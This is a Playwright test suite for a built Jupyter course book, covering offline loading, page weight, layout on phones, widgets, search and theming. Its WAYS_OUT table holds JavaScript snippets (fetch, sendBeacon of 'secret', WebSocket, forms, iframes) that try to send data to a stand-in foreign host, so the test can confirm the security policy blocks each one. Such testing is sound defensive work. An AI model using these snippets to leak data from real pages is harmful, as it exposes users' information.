"""The built book in a browser without a network, over HTTP and from disk: whole, quiet, light, narrow."""

import gzip
import json
import os
import re
from pathlib import Path
from urllib.parse import quote, urlsplit

import pytest
import yaml
from fontTools.ttLib import TTFont
from machine import browser as find_browser
from moved import MOVED
from playwright.sync_api import expect
from search_words import WORDS
from storage import UNUSABLE

from mha_course.widgets import widget_sources
from mha_lib import __version__

ROOT = Path(__file__).resolve().parents[2]
TOC = yaml.safe_load((ROOT / "_toc.yml").read_text(encoding="utf-8"))
PAGES = [TOC["root"], *(entry["file"] for part in TOC["parts"] for entry in part["chapters"])]
PAGES = [f"{page}.html" for page in PAGES]
CHAPTERS = [page for page in PAGES if (ROOT / page).with_suffix(".ipynb").exists()]

# The size of a page with everything that it loads: uncompressed, and gzipped as a server would send it.
MAX_BYTES, MAX_GZIPPED = 3_000_000, 650_000
MAX_SHIFT = 0.05  # layout shift (CLS) while a page starts
SCREENS = {"phone": (360, 740), "tablet": (768, 1024), "desktop": (1280, 900)}
PHONE = 360  # CSS pixels
NARROWEST = 320  # also a desktop at 1280 px that is magnified four times
MAX_PAGE = 25_000  # CSS pixels before the exercises at 1280 wide: about 45 minutes of reading
VIEW = 'script[type="application/vnd.jupyter.widget-view+json"]'
HOST = ".widget-host[data-widget]"
ALREADY_COMPRESSED = (".png", ".webp", ".woff", ".woff2")

# Hosts to which links may lead. Nothing is ever loaded from them.
HOSTS = {
    "aclanthology.org", "ai.meta.com", "anywidget.dev", "arxiv.org", "colab.research.google.com",
    "creativecommons.org", "d2l.ai", "docs.pytorch.org", "doi.org", "github.com", "hastie.su.domains",
    "huggingface.co", "jalammar.github.io", "jmlr.org", "jupyter.org", "nbgrader.readthedocs.io",
    "openreview.net", "opensource.org", "papers.nips.cc", "proceedings.mlr.press", "proceedings.neurips.cc",
    "pytorch.org", "qwen.ai", "scikit-learn.org", "transformer-circuits.pub", "www.evanmiller.org",
}  # fmt: skip


@pytest.fixture(scope="module")
def roots(book, serve):
    return {"http": serve(book), "disk": book.as_uri()}


@pytest.fixture(scope="module")
def visit(browser, roots):
    """Return a function that opens a page and returns it, with all that it asked for and complained about.

    A page that was opened before in the same way is returned again: the tests only look at it.
    """
    context, opened = browser.new_context(), {}

    def open_page(page_name, way="http", new_context=None):
        if (page_name, way) in opened and not new_context:
            return opened[page_name, way]
        page = (new_context or context).new_page()
        page.responses, page.requests, page.complaints = [], [], []
        page.on("request", lambda request: page.requests.append(request.url))
        page.on("response", lambda response: page.responses.append(response))
        page.on("requestfailed", lambda request: page.complaints.append(f"failed: {request.url}"))
        page.on("pageerror", lambda error: page.complaints.append(f"exception: {error}"))
        complain = lambda m: page.complaints.append(f"console: {m.text} {m.location}")  # noqa: E731
        page.on("console", lambda m: m.type == "error" and complain(m))
        page.goto(f"{roots[way]}/{page_name}", wait_until="load")
        # Widgets and fonts appear after the page has loaded.
        # Not `wait_for_function`: where it has to wait, the page's security policy forbids it.
        expect(page.locator(HOST)).to_have_count(page.locator(VIEW).count())
        page.evaluate("() => document.fonts.ready.then(() => true)")
        if not new_context:
            opened[page_name, way] = page
        return page

    yield open_page
    context.close()


@pytest.fixture
def reader(browser):
    """Return a function that makes another kind of window: a phone's, a dark one, one without scripts."""
    contexts = []

    def make(**options):
        contexts.append(browser.new_context(**options))
        return contexts[-1]

    yield make
    for context in contexts:
        context.close()


def test_every_page_is_built(book):
    built = {str(path.relative_to(book)) for path in book.rglob("*.html") if "_static" not in path.parts}
    moved = (f"chapters/{old}.html" for old in MOVED)
    assert built == {*PAGES, "404.html", "genindex.html", "search.html", *moved}


@pytest.mark.parametrize("way", ["http", "disk"])
@pytest.mark.parametrize("page_name", [*PAGES, "search.html"])
def test_page_needs_nothing_from_outside(visit, page_name, way):
    page = visit(page_name, way)
    allowed = ("http://127.0.0.1:", "blob:", "data:") if way == "http" else ("file:", "blob:", "data:")
    assert [url for url in page.requests if not url.startswith(allowed)] == []
    assert page.complaints == []


@pytest.mark.parametrize("page_name", PAGES)
def test_page_is_light(visit, page_name):
    page = visit(page_name)
    sizes = {}
    for response in page.responses:
        if response.url.startswith("http"):
            body = response.body()
            path = urlsplit(response.url).path
            packed = body if path.endswith(ALREADY_COMPRESSED) else gzip.compress(body)
            sizes[path] = (len(body), len(packed))
    assert len(sizes) > 10
    for place, limit in enumerate((MAX_BYTES, MAX_GZIPPED)):
        heaviest = sorted(sizes.items(), key=lambda item: -item[1][place])[:8]
        assert sum(size[place] for size in sizes.values()) <= limit, heaviest


@pytest.mark.parametrize("page_name", PAGES)
def test_page_loads_nothing_that_it_does_not_use(visit, page_name):
    page = visit(page_name)
    loaded = {Path(urlsplit(url).path).name for url in page.requests}
    assert not loaded & {"fontawesome.js", "searchindex.js", "fa-solid-900.woff2"}
    assert not any("mathjax" in url and url.endswith(".js") for url in page.requests)
    assert ("equations.css" in loaded) == (page.locator(".math").count() > 0)
    # A typeface that came later would move the text; icons have room of their own.
    assert not {name for name in loaded if ".woff" in name} - {"fa-solid-900.woff"}
    assert ("widget_loader.js" in loaded) == (page.locator(VIEW).count() > 0)


@pytest.mark.parametrize("page_name", CHAPTERS)
def test_equations_need_no_script(visit, reader, roots, page_name):
    """They are set in the page itself: seen without scripts, and read out as MathML."""
    page = reader(java_script_enabled=False).new_page()
    page.goto(f"{roots['disk']}/{page_name}", wait_until="load")
    equations = page.locator("article .math")
    set_ones = page.locator("article .math > mjx-container > mjx-math[aria-hidden=true]")
    spoken = page.locator("article .math > mjx-container > mjx-assistive-mml > math")
    assert equations.count() == set_ones.count() == spoken.count()
    text = page.locator("article").inner_text()
    assert not re.search(r"\\\(|\\\[[a-z\\]|\\frac|\\mathbf", text)


@pytest.mark.parametrize("is_touched", [False, True])
def test_a_link_arrives_although_the_page_moved_unless_the_reader_moved_it(reader, roots, is_touched):
    context = reader()
    context.add_init_script("window.later = []; window.requestAnimationFrame = (act) => later.push(act);")
    page = context.new_page()
    page.goto(f"{roots['http']}/chapters/02_scoring_functions.html#masks")
    expect(page.locator(f"{HOST}[data-widget=ready]")).to_have_count(page.locator(VIEW).count())
    page.evaluate("scrollTo({ top: 3000, behavior: 'instant' })")
    if is_touched:
        page.keyboard.press("Shift")
    place, top = page.evaluate(
        """() => {
          for (let frame = 0; frame < 9; frame += 1) later.splice(0).forEach(act => act(performance.now()));
          return [scrollY, document.querySelector(":target").getBoundingClientRect().top];
        }"""
    )
    assert place == 3000 if is_touched else 0 <= top < 100


def test_the_search_page_finds(visit, reader):
    page = visit("search.html", new_context=reader())
    page.goto(page.url + "?q=entropy")
    expect(page.locator("#search-results li").first).to_be_visible()


@pytest.mark.parametrize(("target", "word"), [(t, w) for t, words in WORDS.items() for w in words])
def test_the_search_shows_first_where_a_word_is_taught(visit, reader, target, word):
    page = visit("search.html", new_context=reader())
    page.goto(f"{page.url}?q={quote(word)}")
    name, _, section = target.partition("#")
    first = page.locator("#search-results li a").first
    expect(first).to_have_attribute("href", re.compile(rf"chapters/{name}\.html(\?[^#]*)?#{section}$"))


@pytest.mark.parametrize("storage", ["blocked", "missing"])
def test_search_and_theme_need_no_storage(visit, reader, storage):
    context = reader(color_scheme="light")
    context.add_init_script(UNUSABLE[storage] + UNUSABLE[storage].replace("localStorage", "sessionStorage"))
    page = visit("search.html", new_context=context)
    page.goto(page.url + "?q=entropy")
    expect(page.locator("#search-results li").first).to_be_visible()
    modes = []
    for _ in range(3):
        page.locator("button.theme-switch-button:visible").first.click()
        modes.append(page.evaluate("document.documentElement.dataset.mode"))
    assert sorted(modes) == ["auto", "dark", "light"]


LACKING = {
    "color-mix": "CSS.supports = rule => !rule.includes('color-mix')",
    "DecompressionStream": "delete window.DecompressionStream",
    "CSS.supports": "delete CSS.supports",
}


@pytest.mark.parametrize("script", LACKING.values(), ids=LACKING)
def test_a_browser_that_is_too_old_gets_a_line_and_pictures_of_the_widgets(visit, reader, script):
    context = reader()
    context.add_init_script(script)
    page = visit("chapters/01_attention_pooling.html", new_context=context)
    expect(page.locator("article > p").first).to_contain_text("older than Chrome 111")
    assert page.locator(".widget-host:visible, .write-here-button:visible").count() == 0
    stills = page.locator(".widget-still").count()
    assert page.locator(".widget-still:visible").count() == stills > 1


@pytest.mark.parametrize("rule", [":has", "subgrid"])
def test_a_browser_that_draws_less_says_what_is_missing(visit, reader, rule):
    context = reader()
    context.add_init_script(f"CSS.supports = rule => !rule.includes('{rule}')")
    page = visit("chapters/01_attention_pooling.html", new_context=context)
    expect(page.locator("article > p").first).to_contain_text("older than Chrome 117")
    page.locator(HOST).first.scroll_into_view_if_needed()
    expect(page.locator(f"{HOST}[data-widget=ready]").first).to_be_visible()


def test_a_browser_of_today_gets_no_such_line(visit):
    assert visit("chapters/01_attention_pooling.html").locator(".old-browser-note").count() == 0


def test_icons_are_drawn(book, visit):
    """The font that the build left holds every icon that a page names, and the browser has loaded it."""
    page = visit(CHAPTERS[0])
    icons = page.evaluate(
        """() => [...document.querySelectorAll(".fas, .fa-solid")].map(icon => {
            const { content, fontFamily } = getComputedStyle(icon, "::before");
            return [content.slice(1, -1), fontFamily];
        })"""
    )
    assert {family for _, family in icons} == {'"Font Awesome 6 Free"'}
    fonts = book / "_static" / "vendor" / "fontawesome" / "webfonts"
    drawn = TTFont(fonts / "fa-solid-900.woff").getBestCmap()
    assert {ord(icon) for icon, _ in icons} <= set(drawn)
    assert 8 < len({icon for icon, _ in icons}) <= len(drawn) < 100
    loaded = "[...document.fonts].filter(f => f.status == 'loaded').map(f => f.family)"
    assert "Font Awesome 6 Free" in {family.strip('"') for family in page.evaluate(loaded)}


# Wide content (a table, an equation, code) scrolls in its own box; nothing overflows the page.
STICKING_OUT = """width => [...document.querySelectorAll('.bd-article *')].filter(element => {
    const box = e => e.getBoundingClientRect();
    const fits = e => box(e).left >= -1 && box(e).right <= width + 1;
    const hidden = e => getComputedStyle(e).clip != 'auto' || !box(e).width;  // for screen readers only
    if (fits(element) || hidden(element)) return false;
    for (let parent = element.parentElement; parent; parent = parent.parentElement) {
        if (hidden(parent) || (getComputedStyle(parent).overflowX != 'visible' && fits(parent))) return false;
    }
    return true;
}).map(element => element.outerHTML.slice(0, 120))"""


@pytest.mark.parametrize("page_name", [*PAGES, "genindex.html"])
def test_nothing_is_wider_than_a_phone(visit, reader, page_name):
    page = visit(page_name, new_context=reader(viewport={"width": PHONE, "height": 740}))
    page.evaluate("document.querySelectorAll('details').forEach(element => element.open = true)")
    for width in (NARROWEST, PHONE):
        page.set_viewport_size({"width": width, "height": 740})
        assert page.evaluate("document.documentElement.scrollWidth") <= width
        assert page.evaluate(STICKING_OUT, width) == []
    # Letters half as large again, as a reader's browser may be set.
    letters = page.context.new_cdp_session(page)
    letters.send("Page.setFontSizes", {"fontSizes": {"standard": 24}})
    page.set_viewport_size({"width": 390, "height": 740})
    assert page.evaluate("getComputedStyle(document.documentElement).fontSize") == "24px"
    assert page.evaluate("document.documentElement.scrollWidth") <= 390
    letters.send("Page.setFontSizes", {"fontSizes": {"standard": 16}})
    page.set_viewport_size({"width": PHONE, "height": 740})
    # The check detects wide content, even if the page hides the overflow.
    for style in ("width: 500px", "width: 300px; margin-left: 200px"):
        section = page.locator("article section, article").first
        wide = f'<p class="planted" style="{style}">wide</p>'
        section.evaluate("(node, html) => node.insertAdjacentHTML('beforeend', html)", wide)
        assert page.evaluate(STICKING_OUT, PHONE) == [wide]
        page.evaluate("document.querySelector('article p.planted').remove()")


@pytest.mark.parametrize("page_name", PAGES)
def test_page_content(book, visit, page_name):
    html = (book / page_name).read_text(encoding="utf-8")
    assert not re.search(r"Traceback \(most recent call last\)|class=\"[^\"]*\b(stderr|traceback)\b", html)
    assert not re.search(r"(```|:::)\{", html), "a directive was left as text"
    page = visit(page_name)

    alts = page.locator("article img").evaluate_all("images => images.map(i => i.getAttribute('alt') || '')")
    assert [alt for alt in alts if len(alt) < 15 or re.search(r"\.(png|svg)$|_images/", alt)] == []

    loaded = page.evaluate(
        "[...document.querySelectorAll('[src], link[href]:not([rel=canonical])')].map(e => e.src || e.href)"
    )
    assert [url for url in loaded if urlsplit(url).hostname not in ("127.0.0.1", None)] == []
    links = page.evaluate("[...document.querySelectorAll('a[href]')].map(a => a.href)")
    assert {urlsplit(url).hostname for url in links} - {"127.0.0.1", None} <= HOSTS
    assert [url for url in links if not url.startswith(("http", "mailto:", "javascript:void"))] == []

    # No equation was left as text, and MathJax understood all of them (see _ext/equations.py).
    assert page.locator("mjx-merror, [data-mjx-error]").count() == 0
    assert page.locator(".math").count() == page.locator(".math:has(mjx-container)").count()

    # No word is cut off at the edge of a diagram; two pixels are the empty margin of a letter.
    cut = """texts => texts.filter((text) => {
      const [own, all] = [text, text.closest("svg")].map((node) => node.getBoundingClientRect());
      return own.width && (own.left < all.left - 2 || own.right > all.right + 2);
    }).map((text) => text.textContent)"""
    assert page.locator("svg[role=img] text").evaluate_all(cut) == []


@pytest.fixture(scope="module")
def desktop(browser):
    """A browser whose scroll bars take room, as on most desktops; tests otherwise run without any."""
    path = find_browser()
    sandbox = ["--no-sandbox"] if hasattr(os, "geteuid") and os.geteuid() == 0 else []
    kind = browser.browser_type
    shown = kind.launch(executable_path=path, args=sandbox, ignore_default_args=["--hide-scrollbars"])
    yield shown
    shown.close()


# Elements in which a horizontal scroll bar takes room, outside widgets and code.
BARS = """() => [...document.querySelectorAll('article :is(span, p, td, li, a, code)')].filter(element =>
    !element.closest('.widget-host, pre') && getComputedStyle(element).display !== 'inline' &&
    element.offsetHeight - element.clientHeight > 8).map(element => element.outerHTML.slice(0, 120))"""


def test_no_scroll_bar_stands_below_a_formula_in_a_line(desktop, roots):
    page = desktop.new_page(viewport={"width": 1280, "height": 900})
    found = {}
    for page_name in PAGES:
        page.goto(f"{roots['disk']}/{page_name}")
        assert page.evaluate("innerWidth - document.documentElement.clientWidth") > 5  # bars are visible
        found[page_name] = page.evaluate(BARS)
    assert {name: bars for name, bars in found.items() if bars} == {}
    page.goto(f"{roots['disk']}/chapters/03_multi_head_attention.html")
    wide = "span => { span.style.scrollbarWidth = 'auto'; span.style.maxWidth = '10px'; }"
    page.locator("article span.math").locator("visible=true").first.evaluate(wide)
    assert len(page.evaluate(BARS)) == 1
    page.close()


FIELDS = """() => [...document.querySelectorAll('input, select, textarea, [contenteditable]')].filter(field =>
    !['range', 'checkbox', 'radio', 'button', 'submit', 'hidden', 'file'].includes(field.type) &&
    parseFloat(getComputedStyle(field).fontSize) < 16).map(field => field.outerHTML.slice(0, 120))"""


def test_a_phone_does_not_zoom_into_fields(reader, roots):
    """Safari on a phone does so where the letters of a field are smaller than 16 pixels."""
    page = reader(viewport={"width": 390, "height": 740}, has_touch=True, is_mobile=True).new_page()
    found = {}
    for page_name in [*CHAPTERS, "search.html"]:
        page.goto(f"{roots['disk']}/{page_name}")
        expect(page.locator(f"{HOST}[data-widget=ready]")).to_have_count(page.locator(VIEW).count())
        found[page_name] = page.evaluate(FIELDS)
    assert {name: fields for name, fields in found.items() if fields} == {}
    page.evaluate("document.body.insertAdjacentHTML('beforeend', '<input style=\"font-size: 15px\">')")
    assert len(page.evaluate(FIELDS)) == 1


def test_links_inside_the_book_lead_somewhere(book):
    missing = []
    for page_name in PAGES:
        page = book / page_name
        for target in re.findall(r'(?:href|src)="([^"]+)"', page.read_text(encoding="utf-8")):
            parts = urlsplit(target)
            if parts.scheme or parts.netloc:
                continue
            file = (page.parent / parts.path).resolve() if parts.path else page
            anchor = f'id="{parts.fragment}"' if parts.fragment and file.suffix == ".html" else ""
            if not file.is_file() or anchor not in file.read_text("utf-8", errors="ignore"):
                missing.append(f"{page_name}: {target}")
    assert missing == []


@pytest.mark.parametrize("way", ["http", "disk"])
@pytest.mark.parametrize("page_name", CHAPTERS)
def test_every_widget_comes_up(visit, page_name, way):
    notebook = json.loads((ROOT / page_name).with_suffix(".ipynb").read_text(encoding="utf-8"))
    shown = sum(
        "application/vnd.jupyter.widget-view+json" in output.get("data", {})
        for cell in notebook["cells"]
        for output in cell.get("outputs", [])
    )
    page = visit(page_name, way)
    assert page.locator('.widget-host[data-widget="ready"]').count() == shown
    assert page.locator('script[src*="widget_loader.js"]').count() == (1 if shown else 0)
    assert not any(still.is_visible() for still in page.locator(".widget-still").all())
    for host in page.locator(".widget-host").all():
        assert host.bounding_box()["height"] > 30
        # Content off the screen is neither laid out nor painted.
        expect(host).to_have_css("content-visibility", "auto")


# The module and style sheet of each model in a page, reassembled as the notebook stores them.
MODELS = """() => {
    const script = document.querySelector('script[type="application/vnd.jupyter.widget-state+json"]');
    const { state, texts } = JSON.parse(script.textContent);
    const whole = stored => stored?.map(place => texts[place]).join("");
    return [texts, Object.values(state).filter(({ state }) => state._esm).map(
        ({ state }) => [state._anywidget_id, whole(state._esm), whole(state._css)])];
}"""


@pytest.mark.parametrize("page_name", CHAPTERS)
def test_what_widgets_share_is_stored_once(visit, page_name):
    page = visit(page_name)
    if page.locator(VIEW).count() == 0:
        pytest.skip("no widget on this page")
    texts, models = page.evaluate(MODELS)
    assert len(texts) == len(set(texts))
    assert models
    for name, module, style in models:
        source = widget_sources()[name]
        assert (module, style) == (source["_esm"], source["_css"])
    if "// frame.js\n" in models[0][1]:
        assert sum("// frame.js\n" in text for text in texts) == 1
        assert sum("/* frame.css */\n" in text for text in texts) == 1


# The browser's own layout shift score, from the first paint on.
SHIFTS = """() => {
    const observer = new PerformanceObserver(() => {});
    observer.observe({ type: "layout-shift", buffered: true });
    return observer.takeRecords().filter(entry => !entry.hadRecentInput).map(entry => [entry.value,
        entry.sources.map(source => source.node?.outerHTML?.slice(0, 100))]);
}"""


@pytest.mark.slow
@pytest.mark.parametrize("screen", ["phone", "tablet", "desktop"])
@pytest.mark.parametrize("page_name", PAGES)
def test_nothing_moves_while_a_page_starts(visit, reader, page_name, screen):
    """Pages keep room for widgets: who follows a link into one does not lose the place when they start."""
    width, height = SCREENS[screen]
    size = {"width": width, "height": height}
    page = visit(page_name, new_context=reader(viewport=size))
    shifts = page.evaluate(SHIFTS)
    assert sum(value for value, _ in shifts) < MAX_SHIFT, shifts
    rooms = page.locator(".widget-host").evaluate_all(
        f"""hosts => hosts.map(host => [parseFloat(host.style.getPropertyValue("--{screen}")) || 0,
            host.getBoundingClientRect().height])"""
    )
    wrong = [(room, real) for room, real in rooms if abs(room - real) > 40 + 0.05 * real]
    assert wrong == [], "run `make heights`"


@pytest.mark.slow
@pytest.mark.parametrize("page_name", CHAPTERS)
def test_page_is_one_sitting(visit, reader, page_name):
    """Before its exercises a page is not longer than a reader can take."""
    width, height = SCREENS["desktop"]
    page = visit(page_name, new_context=reader(viewport={"width": width, "height": height}))
    top = "element => element.getBoundingClientRect().top + scrollY"
    exercises = page.locator("section#exercises")
    end = exercises.evaluate(top) if exercises.count() else page.evaluate("document.body.scrollHeight")
    assert end <= MAX_PAGE


@pytest.mark.parametrize("page_name", [page for page in CHAPTERS if re.search(r"/0[0-8]_", page)])
def test_a_chapter_lets_the_reader_act_within_two_screens(visit, reader, page_name):
    """Who turns one page sees half a screen of the first widget, or all of it, with something to use."""
    width, height = SCREENS["desktop"]
    page = visit(page_name, new_context=reader(viewport={"width": width, "height": height}))
    first = page.locator(HOST).first
    page.evaluate("window.scrollTo(0, 0)")
    box = first.bounding_box()
    assert box["y"] + min(box["height"], height / 2) <= 2 * height
    controls = first.locator("button, select, input, [role=slider]").locator("visible=true").all()
    ends = [box["y"] + box["height"] for control in controls if (box := control.bounding_box())]
    assert ends
    assert min(ends) <= 2 * height


def test_chapter_3_opens_with_its_picture(visit, reader):
    """It stands on the first screen, though its code runs after the set-up."""
    page = visit(
        "chapters/03_multi_head_attention.html", new_context=reader(viewport={"width": 1280, "height": 800})
    )
    box = page.locator("#fig-questions").bounding_box()
    assert box["y"] + box["height"] < 800
    expect(page.locator("h1 ~ .cell").first.locator("#fig-questions")).to_have_count(1)


@pytest.mark.parametrize("page_name", CHAPTERS)
def test_only_the_landing_page_is_laid_out_as_one(visit, page_name):
    """Every other page has its sidebars, and its text begins at the left."""
    page = visit(page_name)
    text = page.locator(".bd-article p:not(.open-in-colab)").first
    landing = page_name == "index.html"
    assert text.evaluate("node => getComputedStyle(node).textAlign") == ("center" if landing else "start")
    for side in ("primary", "secondary"):
        expect(page.locator(f".bd-sidebar-{side}")).to_be_visible(visible=not landing)


def test_a_picture_of_the_landing_page_moves_while_it_is_pointed_at(reader, roots):
    page = reader().new_page()
    page.goto(f"{roots['http']}/index.html")
    link = page.locator(".bd-article h1 ~ ul a").first
    moves = "node => getComputedStyle(node, '::before').animationName"
    assert link.evaluate(moves) == "none"
    with page.expect_response("**/moving/write.webp") as frames:
        link.hover()
    assert frames.value.ok
    assert link.evaluate(moves) == "frames"


@pytest.mark.slow
@pytest.mark.parametrize("page_name", CHAPTERS)
def test_widgets_are_printed_and_figures_stand_in_for_them_without_scripts(visit, reader, roots, page_name):
    page = visit(page_name)
    page.emulate_media(media="print")
    hosts = page.locator(".widget-host").all()
    assert all(host.is_visible() for host in hosts)
    assert not any(still.is_visible() for still in page.locator(".widget-still").all())
    # Folded parts of a widget stay folded on paper, because nothing has been drawn in them yet.
    folded = page.locator(".widget-host details:not([open]) > :not(summary)")
    assert not any(part.is_visible() for part in folded.all())
    for host in hosts:
        host.evaluate("node => { node.dataset.widget = 'failed'; }")
    assert all(still.is_visible() for still in page.locator(".widget-still").all())
    assert not any(host.is_visible() for host in hosts)
    page.emulate_media(media="screen")

    without_scripts = reader(java_script_enabled=False).new_page()
    without_scripts.goto(f"{roots['disk']}/{page_name}", wait_until="load")
    stills = without_scripts.locator(".widget-still")
    assert stills.count() == without_scripts.locator(VIEW).count()
    assert all(still.is_visible() for still in stills.all())


@pytest.mark.parametrize("page_name", CHAPTERS)
def test_chapter_opens_in_colab_and_an_issue_names_page_and_version(visit, page_name):
    config = yaml.safe_load((ROOT / "_config.yml").read_text(encoding="utf-8"))["repository"]
    repository = config["url"].removeprefix("https://github.com/")
    notebook = f"{repository}/blob/published/{page_name.replace('.html', '.ipynb')}"
    page = visit(page_name)
    link = page.get_by_role("link", name="Open in Colab", exact=True)
    assert link.is_visible()
    assert link.get_attribute("href") == f"https://colab.research.google.com/github/{notebook}"
    assert page.locator(f'.dropdown-launch-buttons a[href$="/{notebook}"]').count() == 1
    about = f"title=Issue%20on%20page%20%2F{page_name}&body=Book%20{__version__}%2C"
    assert page.locator(f'a[href^="{config["url"]}/issues/new?{about}"]').count() == 1


FOREIGN = "https://elsewhere.invalid/"
SEND = "() => { const node = document.createElement('%s'); %s; document.body.append(node); }"
# Ways to send data out of the page or load something into it, and the policy rule that blocks each.
WAYS_OUT = {
    "fetch": ("() => fetch(ADDRESS).catch(() => {})", "connect-src"),
    "beacon": ("() => navigator.sendBeacon(ADDRESS, 'secret')", "connect-src"),
    "socket": ("() => new WebSocket(ADDRESS.replace('https', 'wss'))", "connect-src"),
    "form": (SEND % ("form", "node.action = ADDRESS; setTimeout(() => node.submit())"), "form-action"),
    "frame": (SEND % ("iframe", "node.src = ADDRESS"), "frame-src"),
    # No browser starts a worker from another site, so one from an address that is its own text is tried.
    "worker": ("() => new Worker('data:text/javascript,')", "worker-src"),
    "font": ("() => new FontFace('Foreign', `url(${ADDRESS})`).load().catch(() => {})", "font-src"),
    "image": ("() => { new Image().src = ADDRESS; }", "img-src"),
    "sound": (SEND % ("audio", "node.src = ADDRESS"), "media-src"),
}  # fmt: skip


@pytest.mark.parametrize("way_out", WAYS_OUT)
def test_policy_stops_whatever_would_leave_a_page(reader, roots, way_out):
    """Not by chance does nothing leave: a network that would answer is never asked."""
    context, asked = reader(), []
    context.route(f"{FOREIGN}**", lambda route: (asked.append(route.request.url), route.fulfill(body="")))
    page = context.new_page()
    page.goto(f"{roots['http']}/{PAGES[0]}", wait_until="load")
    send, rule = WAYS_OUT[way_out]
    stopped = page.evaluate(
        f"""() => new Promise(resolve => {{
            const ADDRESS = "{FOREIGN}";
            document.addEventListener('securitypolicyviolation', event => resolve(event.effectiveDirective));
            setTimeout(() => resolve("nothing"), 5000);
            ({send})();
        }})"""
    )
    assert (stopped, asked) == (rule, [])


def test_theme_follows_the_reader(visit, reader):
    """In dark mode text and ground are both the theme's: nothing is left black on black."""
    (light_text, light_ground), (dark_text, dark_ground) = (
        visit(CHAPTERS[0], new_context=reader(color_scheme=scheme)).evaluate(
            "[getComputedStyle(document.body).color, getComputedStyle(document.body).backgroundColor]"
        )
        for scheme in ("light", "dark")
    )
    assert light_text != dark_text
    assert light_ground != dark_ground
